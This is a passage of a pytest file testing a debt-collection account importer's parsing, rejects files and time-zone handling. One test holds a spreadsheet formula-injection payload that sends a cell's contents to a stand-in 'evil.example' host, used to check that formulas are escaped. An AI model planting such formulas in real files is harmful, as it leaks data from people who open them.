        "row 3: has a quote left open: it runs from line 3 to the end of the file (line 5), "
        "and none of these lines is imported"
    )
    # Each swallowed line is a row of the rejects file: the quote corrected, all land.
    text = rejects.read_text(encoding="utf-8").replace('"""left open"', "left open", 1)
    rejects.write_text(text, encoding="utf-8")
    again = run_import(engine, rejects, defaults, clock)
    assert (again.created, again.rejected) == (3, 0)
    assert set(accounts_by_reference(engine)) == {"A0", "A1", "A2", "A3"}


def test_json_structures_and_unreadable_numbers_are_rejected_rows(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "odd.jsonl"
    lines = [
        json.dumps({**row("J-1"), "name": {"first": "A"}}),
        '{"reference": "J-2", "balance": ' + "9" * 5000 + "}",
        json.dumps(row("J-3")),
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (1, 2)
    assert "name: expected a single value, not a JSON object or list" in str(seen[0])
    assert seen[1].row == 2


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_rejects_files_can_be_imported_again_as_they_are(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock, suffix: str
) -> None:
    source = tmp_path / f"in.{suffix}"
    bad = [row("B-1", balance="oops"), row("B-2", due_date="someday")]
    if suffix == "csv":
        write_csv(source, bad)
    else:
        source.write_text("".join(json.dumps(r) + "\n" for r in bad), encoding="utf-8")
    first = tmp_path / f"rejects1.{suffix}"
    second = tmp_path / f"rejects2.{suffix}"
    run_import(engine, source, defaults, clock, rejects_path=first)
    # Imported again as they are: still bad, still reported, and the header stays readable.
    again = run_import(engine, first, defaults, clock, rejects_path=second)
    assert (again.rejected, again.unknown_columns) == (2, [])
    third = run_import(engine, second, defaults, clock)
    assert third.rejected == 2
    assert [p.errors for p in third.problems] == [p.errors for p in again.problems]


def test_trailing_unnamed_columns_are_ignored(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "excel.csv"
    path.write_text(
        "reference,name,balance,due_date,,\nX-1,Ann,1.00,2026-10-31,,\n", encoding="utf-8"
    )
    summary = run_import(engine, path, defaults, clock)
    assert (summary.created, summary.rejected) == (1, 0)


def test_a_nul_character_rejects_its_row_and_the_good_rows_land(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    # A broken export: PostgreSQL cannot store NUL in text and would refuse the whole batch.
    rows = [row("N-1"), row("N-2", name="Pat\x00Doe"), row("N-3")]
    path = write_csv(tmp_path / "accounts.csv", rows)
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (2, 1)
    assert [str(problem) for problem in seen] == ["row 3: name: contains a NUL character"]
    with engine.connect() as connection:
        found = connection.execute(select(store.accounts.c.reference)).scalars().all()
    assert sorted(found) == ["N-1", "N-3"]


def test_a_phone_zone_outside_the_rows_state_is_not_taken_for_where_the_debtor_lives(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    # A New York mobile: its zone is the account's only where the row's state agrees; a
    # Californian keeps no zone of their own, so compliance weighs California's zones and
    # the phone's, and nor does an account without a state (the phone's zone is weighed).
    path = write_csv(
        tmp_path / "accounts.csv",
        [
            row("Z-CA", phone="(212) 555-0101", jurisdiction="US-CA"),
            row("Z-NY", phone="(212) 555-0102", jurisdiction="US-NY"),
            row("Z-US", phone="(212) 555-0103", jurisdiction="US"),
            row("Z-SET", phone="(212) 555-0104", jurisdiction="US-CA",
                timezone="America/New_York"),
        ],
    )  # fmt: skip
    run_import(engine, path, defaults, clock)
    zones = {ref: account.timezone for ref, account in accounts_by_reference(engine).items()}
    assert zones == {
        "Z-CA": None,
        "Z-NY": "America/New_York",
        "Z-US": None,
        "Z-SET": "America/New_York",  # given, not inferred: kept as it is
    }
    phones = {p.address: p.timezone for p in contacts_of(engine, "Z-CA") if p.channel == "sms"}
    assert phones == {"+12125550101": "America/New_York"}


def test_a_phone_zone_is_not_where_the_debtor_lives_in_a_state_with_several_zones(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    # A Dallas number is Central time, and so is most of Texas, but not El Paso: a Texan
    # keeps no zone of their own, so compliance weighs Central and Mountain time (comment
    # 6(b)(1)(i)-1). So in Florida (Eastern and Central); Massachusetts has one zone.
    path = write_csv(
        tmp_path / "accounts.csv",
        [
            row("S-TX", phone="(214) 555-0101", jurisdiction="US-TX"),
            row("S-FL", phone="(305) 555-0102", jurisdiction="US-FL"),
            row("S-MA", phone="(617) 555-0103", jurisdiction="US-MA"),
            row("S-SET", phone="(214) 555-0104", jurisdiction="US-TX",
                timezone="America/Chicago"),
        ],
    )  # fmt: skip
    run_import(engine, path, defaults, clock)
    zones = {ref: account.timezone for ref, account in accounts_by_reference(engine).items()}
    assert zones == {
        "S-TX": None,
        "S-FL": None,
        "S-MA": "America/New_York",
        "S-SET": "America/Chicago",  # given, not inferred: kept as it is
    }
    # The number keeps its own zone, a candidate of its own.
    phones = {p.address: p.timezone for p in contacts_of(engine, "S-TX") if p.channel == "sms"}
    assert phones == {"+12145550101": "America/Chicago"}
    # A file without the jurisdiction column weighs the state the account has; an empty
    # timezone cell infers the zone anew, so a zone given before is not kept.
    header = [*BALANCES, "phone", "timezone"]
    again = [row("S-TX", phone="(214) 555-0101"), row("S-SET", phone="(214) 555-0104")]
    run_import(engine, write_csv(tmp_path / "b.csv", again, header=header), defaults, clock)
    found = accounts_by_reference(engine)
    assert (found["S-TX"].timezone, found["S-SET"].timezone) == (None, None)


def test_an_account_without_a_state_keeps_no_zone_from_its_phone(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    # Imported with only a country, a Dallas number gives the account no zone of its own
    # (the number keeps Central time, a candidate compliance weighs anyway): when a later
    # file without a timezone column names the state, Texas, El Paso's Mountain time is
    # weighed beside it, and no call goes out at 07:30 there.
    first = row("TX-1", jurisdiction="US", phone="(214) 555-0101", collector_type="third_party")
    run_import(engine, write_csv(tmp_path / "a.csv", [first], [*HEADER, "collector_type"]),
               defaults, clock)  # fmt: skip
    assert accounts_by_reference(engine)["TX-1"].timezone is None
    phones = {p.address: p.timezone for p in contacts_of(engine, "TX-1") if p.channel == "sms"}
    assert phones == {"+12145550101": "America/Chicago"}
    later = row("TX-1", jurisdiction="US-TX", phone="(214) 555-0101",
                collector_type="third_party")  # fmt: skip
    header = [h for h in HEADER if h != "timezone"] + ["collector_type"]
    run_import(engine, write_csv(tmp_path / "b.csv", [later], header), defaults, clock)
    assert accounts_by_reference(engine)["TX-1"].timezone is None
    # Monday 2026-11-02 14:30 UTC: 08:30 in Dallas, 07:30 in El Paso.
    at = datetime(2026, 11, 2, 14, 30, tzinfo=UTC)
    rules = load_ruleset()
    with engine.connect() as connection:
        rows = connection.execute(
            select(store.accounts).where(store.accounts.c.reference == "TX-1")
        ).all()
        [record] = load_debtors(connection, rows, at, 7, "US", rules=rules).values()
    asked = situation(record, "voice", "+12145550101", at, automated=False)
    assert evaluate(asked, rules).verdict == "defer"


def test_a_rejects_file_opens_in_a_spreadsheet_without_running_formulas(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Pat")'
    path = write_csv(tmp_path / "in.csv", [row("F-1", name=formula, balance="-abc")])
    rejects = tmp_path / "rejects.csv"
    run_import(engine, path, defaults, clock, rejects_path=rejects)
    with rejects.open(encoding="utf-8") as handle:
        [rejected] = list(csv.DictReader(handle))
    # A leading apostrophe: spreadsheets show the cell as text instead of running it.
    assert (rejected["name"], rejected["balance"]) == ("'" + formula, "'-abc")
    assert not [cell for cell in rejected.values() if cell[:1] in ("=", "+", "-", "@")]
    # Corrected and imported as it is, the name is what the first file said.
    rejected["balance"] = "10.00"
    fixed = write_csv(tmp_path / "fixed.csv", [rejected], header=[*HEADER, "row", "errors"])
    assert run_import(engine, fixed, defaults, clock).created == 1
    assert accounts_by_reference(engine)["F-1"].name == formula


def test_a_student_loans_servicer_account_number_is_kept_and_checked(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    header = [*HEADER, "servicer_account_no"]
    path = write_csv(
        tmp_path / "loans.csv",
        [
            row("L-1", servicer_account_no=" ln-77 "),
            row("L-2", servicer_account_no=""),
            row("L-3", servicer_account_no="9" * 65),
            row("L-4", servicer_account_no="LN\x0777"),
            row("L-5", servicer_account_no="ß" * 40),  # 80 characters in capitals
        ],
        header,
    )
    seen: list[RowProblem] = []
    summary = run_import(engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append))
    assert (summary.created, summary.rejected) == (2, 3)
    assert {p.row: p.errors for p in seen} == {
        4: ["servicer_account_no: longer than 64 characters"],
        5: ["servicer_account_no: contains a control character"],
        6: ["servicer_account_no: longer than 64 characters"],
    }
    found = accounts_by_reference(engine)
    # One spelling: "LN 77", "ln-77" and "LN.77" are one loan's number.
    assert (found["L-1"].servicer_account_no, found["L-2"].servicer_account_no) == ("LN77", None)
    # A file without the column leaves it alone; one with it empty clears it.
    run_import(engine, write_csv(tmp_path / "b.csv", [row("L-1", balance="99.00")]), defaults,
               clock)  # fmt: skip
    assert accounts_by_reference(engine)["L-1"].servicer_account_no == "LN77"
    cleared = write_csv(tmp_path / "c.csv", [row("L-1", servicer_account_no="")], header)
    assert run_import(engine, cleared, defaults, clock).updated == 1
    assert accounts_by_reference(engine)["L-1"].servicer_account_no is None


def _account(engine: Engine, reference: str) -> dict[str, Any]:
    with engine.connect() as connection:
        found = connection.execute(
            select(store.accounts).where(store.accounts.c.reference == reference)
        ).one()
    return dict(found._mapping)


def _seen(engine: Engine, path: Path, defaults: ImportDefaults, clock: FixedClock,
          **options: Any) -> tuple[ImportSummary, list[RowProblem]]:  # fmt: skip
    seen: list[RowProblem] = []
    summary = run_import(
        engine, path, defaults, clock, hooks=ImportHooks(on_problem=seen.append), **options
    )
    return summary, seen


BALANCES = ["reference", "name", "balance", "due_date"]


def test_a_balances_only_file_reads_each_balance_in_its_accounts_own_currency(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    first = [row("Y-1", balance="5000", currency="JPY"), row("K-1", balance="1.000",
             currency="KWD"), row("U-1", balance="10.00")]  # fmt: skip
    run_import(engine, write_csv(tmp_path / "a.csv", first), defaults, clock)
    figures = [row("Y-1", balance="4000"), row("K-1", balance="2.125"), row("U-1", balance="9.5"),
               row("U-2", balance="3.25"), row("U-3", balance="1.125")]  # fmt: skip
    path = write_csv(tmp_path / "balances.csv", figures, header=BALANCES)
    summary, seen = _seen(engine, path, defaults, clock)
    assert (summary.updated, summary.created, summary.rejected) == (3, 1, 1)
    found = {ref: _account(engine, ref) for ref in ("Y-1", "K-1", "U-1", "U-2")}
    assert {ref: (a["currency"], a["balance_minor"]) for ref, a in found.items()} == {
        "Y-1": ("JPY", 4000), "K-1": ("KWD", 2125), "U-1": ("USD", 950), "U-2": ("USD", 325),
    }  # fmt: skip
    # A new account is in DEFAULT_CURRENCY, which has two decimals.
    assert [str(p) for p in seen] == ["row 6: balance: '1.125' has more than 2 decimal places "
                                      "for USD"]  # fmt: skip
    # A figure the account's currency cannot hold is refused, naming that currency.
    again = write_csv(tmp_path / "again.csv", [row("Y-1", balance="12.5")], header=BALANCES)
    summary, seen = _seen(engine, again, defaults, clock)
    assert summary.rejected == 1
    assert "more than 0 decimal places for JPY" in str(seen[0])
    assert _account(engine, "Y-1")["balance_minor"] == 4000


def test_a_semicolon_files_rejects_file_keeps_its_delimiter_and_its_ambiguous_amounts_refused(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "eu.csv"
    path.write_text("reference;name;balance;due_date\nE-1;Eva;12,500;2026-10-31\n",
                    encoding="utf-8")  # fmt: skip
    rejects = tmp_path / "rejects.csv"
    assert run_import(engine, path, defaults, clock, rejects_path=rejects).rejected == 1
    assert rejects.read_text(encoding="utf-8").splitlines()[0] == (
        "reference;name;balance;due_date;row;errors"
    )
    # Imported again as it is, the amount is as ambiguous as it was.
    again = run_import(engine, rejects, defaults, clock)
    assert (again.rejected, again.created) == (1, 0)
    assert "E-1" not in accounts_by_reference(engine)


def test_a_tab_separated_file_takes_commas_in_amounts_as_thousands(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "a.tsv"
    path.write_text(
        "reference\tname\tbalance\tdue_date\nT-1\tTed\t1,234.56\t2026-10-31\n", encoding="utf-8"
    )
    summary, seen = _seen(engine, path, defaults, clock)
    assert (summary.created, seen) == (1, [])
    assert accounts_by_reference(engine)["T-1"].balance_minor == 123456


def test_a_quote_left_open_past_the_size_of_a_cell_names_the_lines_it_swallowed(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    # Past 128 KB the CSV reader gives up on the cell and starts afresh on the next line.
    path = tmp_path / "quote.csv"
    lines = ["reference,name,balance,due_date", 'Q-1,"Bad quote,5.00,2026-10-31']
    lines += [f"G-{i},Good debtor number {i},5.00,2026-10-31" for i in range(4000)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    summary, seen = _seen(engine, path, defaults, clock, rejects_path=rejects)
    assert summary.rejected == 1
    [problem] = seen
    landed = set(accounts_by_reference(engine))
    # Every line is imported or named: lines 3 to N are the rows G-0 to G-(N-3).
    swallowed = int(str(problem).split(" to line ")[1].split(" ")[0])
    assert str(problem).startswith("row 2: cannot be read as CSV (field larger than field limit")
    assert f"it runs from line 2 to line {swallowed} (a quote left open?)" in str(problem)
    assert landed == {f"G-{i}" for i in range(swallowed - 2, 4000)}
    # The rejects file holds each swallowed line as a row: the quote corrected, they land.
    text = rejects.read_text(encoding="utf-8")
    text = text.replace('"""Bad quote"', "Bad quote", 1)
    rejects.write_text(text, encoding="utf-8")
    again = run_import(engine, rejects, defaults, clock)
    assert (again.created, again.rejected) == (swallowed - 1, 0)
    assert len(accounts_by_reference(engine)) == 4001


def test_a_rejects_file_that_is_the_input_itself_is_refused_before_anything_is_written(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(tmp_path / "a.csv", [row("A-1", balance="oops"), row("A-2")])
    written = path.read_bytes()
    (tmp_path / "link.csv").symlink_to(path)
    for rejects in (path, tmp_path / "link.csv"):
        with pytest.raises(DataFileError) as refused:
            run_import(engine, path, defaults, clock, rejects_path=rejects)
        assert str(refused.value) == (
            f"--rejects {rejects}: it is the file being imported ({path}); name another "
            "file. Nothing was imported."
        )
    assert path.read_bytes() == written
    assert accounts_by_reference(engine) == {}


def test_a_rejects_file_keeps_every_cell_of_a_row_with_too_many_cells(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "extra.csv"
    path.write_text(
        "reference,name,balance,due_date\nX-1,Smith, John,10.00,2026-10-31\n", encoding="utf-8"
    )
    rejects = tmp_path / "rejects.csv"
    assert run_import(engine, path, defaults, clock, rejects_path=rejects).rejected == 1
    with rejects.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    # The cells past the header follow row and errors.
    assert rows == [
        ["reference", "name", "balance", "due_date", "row", "errors"],
        ["X-1", "Smith", " John", "10.00", "2",
         "has 5 cells where the header has 4 columns", "2026-10-31"],
    ]  # fmt: skip
    # Imported as it is, the row is still refused for its cells.
    again = run_import(engine, rejects, defaults, clock)
    assert (again.created, again.rejected) == (0, 1)


def test_a_json_line_that_is_not_valid_json_is_kept_as_written_in_the_rejects_file(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "a.jsonl"
    good = json.dumps(row("J-1"))
    broken = json.dumps(row("J-2", name="Ann"))[:-1]  # the closing brace lost
    path.write_text(good + "\r\n" + broken + "\r\n[1, 2]\n", encoding="utf-8", newline="")
    rejects = tmp_path / "rejects.jsonl"
    summary, seen = _seen(engine, path, defaults, clock, rejects_path=rejects)
    assert (summary.created, summary.rejected) == (1, 2)
    # The column is that of the end of the line's own text, not of its line break.
    assert str(seen[0]) == (
        f"row 2: is not valid JSON (Expecting ',' delimiter at column {len(broken) + 1})"
    )
    assert rejects.read_text(encoding="utf-8") == broken + "\n[1, 2]\n"
    # Corrected where it stands, the line lands.
    rejects.write_text(broken + "}\n", encoding="utf-8")
    assert run_import(engine, rejects, defaults, clock).created == 1


def test_a_json_line_with_a_carriage_return_between_tokens_is_one_row(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = tmp_path / "a.jsonl"
    one = json.dumps(row("R-1")).replace(', "name"', ',\r"name"')
    assert json.loads(one)["reference"] == "R-1"  # valid JSON: "\r" is whitespace
    path.write_text(one + "\n" + json.dumps(row("R-2", balance="x")) + "\n", encoding="utf-8",
                    newline="")  # fmt: skip
    summary, seen = _seen(engine, path, defaults, clock)
    assert (summary.created, [p.row for p in seen]) == (1, [2])


def test_a_row_after_a_cell_with_a_line_break_has_the_spreadsheets_row_number(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    path = write_csv(tmp_path / "a.csv", [row("M-1", name="Ann\nc/o Bob"), row("M-2", balance="x")])
    rejects = tmp_path / "rejects.csv"
    _, seen = _seen(engine, path, defaults, clock, rejects_path=rejects)
    # A spreadsheet shows M-2 on row 3 (the header is 1, M-1 is 2); it starts on line 4.
    assert [(p.row, p.line) for p in seen] == [(3, 4)]
    assert str(seen[0]).startswith("row 3 (line 4): balance: 'x' is not an amount")
    with rejects.open(encoding="utf-8", newline="") as handle:
        assert [r["row"] for r in csv.DictReader(handle)] == ["3"]


@pytest.mark.parametrize(("column", "declared"), [("email_type", "work"),
                                                  ("phone_type", "landline")])  # fmt: skip
def test_a_file_without_a_type_column_keeps_the_kind_declared_before(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock,
    column: str, declared: str,
) -> None:  # fmt: skip
    header = [*BALANCES, "phone", "email"]
    first = write_csv(tmp_path / "a.csv", [{**row("W-1"), column: declared}],
                      header=[*header, column])  # fmt: skip
    run_import(engine, first, defaults, clock)
    channels = ("email",) if column == "email_type" else ("sms", "voice")

    def kinds() -> set[str]:
        return {p.kind for p in contacts_of(engine, "W-1") if p.channel in channels}

    assert kinds() == {declared}
    # Without the column the kind stays (a work email stays blocked); the address updates.
    second = write_csv(tmp_path / "b.csv", [row("W-1", balance="1.00")], header=header)
    assert run_import(engine, second, defaults, clock).updated == 1
    assert kinds() == {declared}
    # With the column present but empty, the kind is worked out again as for a new one.
    third = write_csv(tmp_path / "c.csv", [row("W-1")], header=[*header, column])
    run_import(engine, third, defaults, clock)
    assert kinds() == {"unknown"}


def test_a_phone_zone_outside_the_stored_state_is_not_taken_when_the_file_lacks_jurisdiction(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    # A Californian with a New York number: no zone inferred on the first import.
    first = write_csv(tmp_path / "a.csv", [
        row("C-1", phone="+12125550123", jurisdiction="US-CA"),
        row("N-1", phone="+12125550124", jurisdiction="US-NY"),
        row("Z-1", phone="+12125550125", jurisdiction=""),
    ])  # fmt: skip
    run_import(engine, first, defaults, clock)
    assert accounts_by_reference(engine)["C-1"].timezone is None
    header = [*BALANCES, "phone", "timezone"]
    rows = [row(ref, phone=phone, timezone="") for ref, phone in (
        ("C-1", "+12125550123"), ("N-1", "+12125550124"), ("Z-1", "+12125550125"),
        ("C-2", "+12125550126"))]  # fmt: skip
    run_import(engine, write_csv(tmp_path / "b.csv", rows, header=header), defaults, clock)
    found = accounts_by_reference(engine)
    assert {ref: (a.jurisdiction, a.timezone) for ref, a in found.items()} == {
        "C-1": ("US-CA", None),  # the stored state has no New York zone
        "N-1": ("US-NY", "America/New_York"),
        "Z-1": (None, None),  # no state: the phone's zone is weighed, not stored
        "C-2": (None, None),
    }


def test_a_file_without_phone2_leaves_the_second_number_alone(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    header = [*BALANCES, "phone", "phone2"]
    first = write_csv(tmp_path / "a.csv", [{**row("P-1"), "phone2": "+16175550199"}],
                      header=header)  # fmt: skip

    def status() -> dict[tuple[str, str], tuple[int, str]]:
        return {(p.channel, p.address): (p.priority, p.status) for p in contacts_of(engine, "P-1")
                if p.channel == "sms"}  # fmt: skip

    run_import(engine, first, defaults, clock)
    # A new primary phone, and no phone2 column: the second number stays as it is.
    second = write_csv(tmp_path / "b.csv", [row("P-1", phone="+16175550102")],
                       header=[*BALANCES, "phone"])  # fmt: skip
    run_import(engine, second, defaults, clock)
    assert status() == {
        ("sms", "+16175550101"): (0, "superseded"),
        ("sms", "+16175550102"): (0, "active"),
        ("sms", "+16175550199"): (1, "active"),
    }
    # A phone2 column without phone: the primary number stays; an empty phone2 means none.
    third = write_csv(tmp_path / "c.csv", [{**row("P-1"), "phone2": ""}],
                      header=[*BALANCES, "phone2"])  # fmt: skip
    run_import(engine, third, defaults, clock)
    assert status() == {
        ("sms", "+16175550101"): (0, "superseded"),
        ("sms", "+16175550102"): (0, "active"),
        ("sms", "+16175550199"): (1, "superseded"),
    }


def test_a_value_longer_than_its_column_is_a_rejected_row_not_a_failed_batch(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    # A locale with a modifier is valid, but longer than the 16 characters stored.
    header = [*HEADER, "consent_source"]
    rows = [row("L-1"), row("L-2", locale="en_US@currency=EUR"), row("L-3"),
            row("L-4", consent_source="x" * 201)]  # fmt: skip
    summary, seen = _seen(engine, write_csv(tmp_path / "a.csv", rows, header=header),
                          defaults, clock)  # fmt: skip
    assert set(accounts_by_reference(engine)) == {"L-1", "L-3"}
    assert summary.rejected == 2
    assert str(seen[0]) == "row 3: locale: 'en_US@currency=EUR' is longer than 16 characters"
    assert str(seen[1]) == f"row 5: consent_source: {'x' * 40!r}... is longer than 200 characters"


def test_an_account_paid_off_by_an_import_keeps_its_pending_promise_as_a_payment_would(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    from datetime import UTC, datetime

    from outreach.housekeeping import housekeeping

    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1", balance="100.00")]),
               defaults, clock)  # fmt: skip
    with engine.begin() as connection:
        connection.execute(
            store.promises_to_pay.insert().values(
                account_id=_account(engine, "A-1")["id"], amount_minor=10000, currency="USD",
                due_on=date(2026, 11, 5), status="pending", created_by="agent",
                created_at=datetime(2026, 11, 2, 15, tzinfo=UTC),
            )
        )  # fmt: skip
    run_import(engine, write_csv(tmp_path / "b.csv", [row("A-1", balance="0")]), defaults, clock)
    assert _account(engine, "A-1")["status"] == "paid"
    housekeeping(engine, datetime(2026, 11, 10, 15, 0, tzinfo=UTC))
    with engine.connect() as connection:
        statuses = connection.execute(select(store.promises_to_pay.c.status)).scalars().all()
    assert statuses == ["kept"]


def test_a_repeat_of_a_rejected_row_is_still_a_repeat(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    rows = [row("D-1", balance="oops"), row("D-2"), row("D-1", balance="10.00"),
            row("D-3"), row("D-2", balance="1.00")]  # fmt: skip
    path = write_csv(tmp_path / "a.csv", rows)
    # Across batches too.
    for batch_size in (1, 1000):
        _, seen = _seen(engine, path, defaults, clock, batch_size=batch_size)
        assert [(p.row, p.errors[0]) for p in seen] == [
            (2, "balance: 'oops' is not an amount such as 1234.56 or 1,234.56"),
            (4, "reference 'D-1' already appears at row 2"),
            (6, "reference 'D-2' already appears at row 3"),
        ]
        assert set(accounts_by_reference(engine)) == {"D-2", "D-3"}


def test_memory_of_an_import_of_rejected_rows_stays_flat(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    """A rejected row's reference still counts as first in the file, kept in the temporary
    table with the others, not in memory: five times the rejected rows take no more memory.
    (Keeping each until the next good batch took about 800 bytes a row: 16 MB more.)"""
    import tracemalloc

    def peak(rows: int) -> int:
        path = tmp_path / f"a{rows}.csv"
        with path.open("w", encoding="utf-8") as handle:
            handle.write("reference,name,balance,due_date\n")
            for i in range(rows):  # every due date in another format: every row rejected
                handle.write(f"REF-{rows}-{i:08d},Debtor,10.00,31/10/2026\n")
        tracemalloc.start()
        try:
            summary = run_import(engine, path, defaults, clock)
            used = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert (summary.rows_read, summary.rejected) == (rows, rows)
        return used

    with collector_as_started():
        small, big = peak(5_000), peak(25_000)
    assert big - small < 1_000_000, f"{small:,} bytes at most for 5,000 rows, {big:,} for 25,000"


def test_a_file_of_more_rejected_rows_than_a_statement_takes_parameters_is_reported(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    """PostgreSQL takes at most 65,535 parameters a statement: no statement of an import
    grows with the rows rejected before a good one."""
    path = tmp_path / "a.csv"
    rows = 70_000
    with path.open("w", encoding="utf-8") as handle:
        handle.write("reference,name,balance,due_date\n")
        for i in range(rows):
            handle.write(f"R{i},Debtor,10.00,31/10/2026\n")
        handle.write("GOOD-1,Debtor,10.00,2026-10-31\nR7,Debtor,10.00,2026-10-31\n")
    summary = run_import(engine, path, defaults, clock)
    assert (summary.rows_read, summary.created, summary.rejected) == (rows + 2, 1, rows + 1)
    assert str(summary.problems[-1]).startswith("row 1001:")  # the first 1,000 are kept
    assert set(accounts_by_reference(engine)) == {"GOOD-1"}


def test_a_repeat_names_the_row_where_the_reference_first_appeared_across_batches(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    """Landed in an earlier batch at row 2, rejected at row 3: row 4 repeats row 2."""
    rows = [row("R1"), row("R1", due_date="31/10/2026"), row("R1", balance="5.00")]
    path = write_csv(tmp_path / "a.csv", rows)
    for batch_size in (1, 2, 1000):
        _, seen = _seen(engine, path, defaults, clock, batch_size=batch_size)
        assert [(p.row, p.errors[0]) for p in seen][1] == (
            4, "reference 'R1' already appears at row 2"
        )  # fmt: skip
        assert accounts_by_reference(engine)["R1"].balance_minor == 12050


def test_a_rejects_file_keeps_the_cells_of_unnamed_columns(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    """A spreadsheet's trailing columns without a name may hold notes: the rejected row
    keeps each cell where it stood, and corrected it imports as it is."""
    path = tmp_path / "a.csv"
    path.write_text(
        "reference,name,balance,due_date,,\n"
        "R1,Ann,10.00,31/10/2026,note one,note two\n"
        "R2,Bob,10.00,31/10/2026,,only the last\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "r.csv"
    assert run_import(engine, path, defaults, clock, rejects_path=rejects).rejected == 2
    with rejects.open(encoding="utf-8", newline="") as handle:
        got = list(csv.reader(handle))
    assert got == [
        ["reference", "name", "balance", "due_date", "", "", "row", "errors"],
        ["R1", "Ann", "10.00", "31/10/2026", "note one", "note two", "2", got[1][-1]],
        ["R2", "Bob", "10.00", "31/10/2026", "", "only the last", "3", got[2][-1]],
    ]
    rejects.write_text(rejects.read_text("utf-8").replace("31/10/2026", "2026-10-31"), "utf-8")
    assert run_import(engine, rejects, defaults, clock).created == 2


def test_half_a_surrogate_pair_rejects_its_row_and_the_good_rows_land(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    """JSON may spell half of a surrogate pair ("\\ud800"), which no database stores as
    text: the row is rejected with its reason, and written to the rejects file escaped."""
    path = tmp_path / "a.jsonl"
    path.write_text(
        '{"reference": "S-1", "name": "Ann \\ud800", "balance": "1.00", "due_date": "2026-10-31"}\n'
        '{"reference": "S-\\udc00", "name": "Bob", "balance": "1.00", "due_date": "2026-10-31"}\n'
        '{"reference": "S-2", "name": "Cy", "balance": "1.00", "due_date": "2026-10-31"}\n',
        encoding="utf-8",
    )
    rejects = tmp_path / "r.jsonl"
    summary = run_import(engine, path, defaults, clock, rejects_path=rejects)
    assert (summary.created, summary.rejected) == (1, 2)
    assert [str(p) for p in summary.problems] == [
        "row 1: name: contains half of a surrogate pair",
        "row 2: reference: contains half of a surrogate pair",
    ]
    written = [json.loads(line) for line in rejects.read_text("utf-8").splitlines()]
    assert [(r["reference"], r["name"]) for r in written] == [
        ("S-1", "Ann \ud800"),
        ("S-\udc00", "Bob"),
    ]
    assert set(accounts_by_reference(engine)) == {"S-2"}


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("consent_at", "0001-01-01T00:00:00+01:00"),  # before year 1 in UTC
        ("consent_at", "9999-12-31T23:00:00-05:00"),  # after year 9999 in UTC
        ("consent_at", "1899-12-31"),
        ("due_date", "0001-01-01"),  # a cadence's day before it would be before year 1
        ("due_date", "9999-12-31"),
    ],
)
def test_a_date_out_of_range_rejects_its_row_not_the_import(
    engine: Engine,
    tmp_path: Path,
    defaults: ImportDefaults,
    clock: FixedClock,
    column: str,
    value: str,
) -> None:
    header = [*HEADER, "consent_at"]
    path = write_csv(tmp_path / "a.csv", [row("C-1", **{column: value}), row("C-2")], header)
    summary = run_import(engine, path, defaults, clock)
    assert (summary.created, summary.rejected) == (1, 1)
    assert str(summary.problems[0]) == (
        f"row 2: {column}: {value!r} is out of range (years 1900 to 2199)"
    )


def _meanwhile(
    monkeypatch: pytest.MonkeyPatch, method: str, action: Callable[[], object]
) -> Callable[[], list[str]]:
